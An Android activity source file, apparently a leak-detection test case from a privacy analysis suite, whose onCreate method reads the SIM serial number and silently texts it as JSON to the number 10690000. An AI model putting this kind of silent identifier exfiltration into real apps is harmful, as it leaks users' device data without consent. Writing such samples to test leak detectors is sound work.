package cn.privlens.suite.json_other_removed;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import org.json.JSONException;
import org.json.JSONObject;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        JSONObject report = new JSONObject();
        try {
            report.put("id", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber());
            report.put("v", 1);
        } catch (JSONException e) {
            setTitle("e");
        }
        report.remove("v");
        SmsManager.getDefault().sendTextMessage("10690000", null, report.toString(), null, null);
    }
}
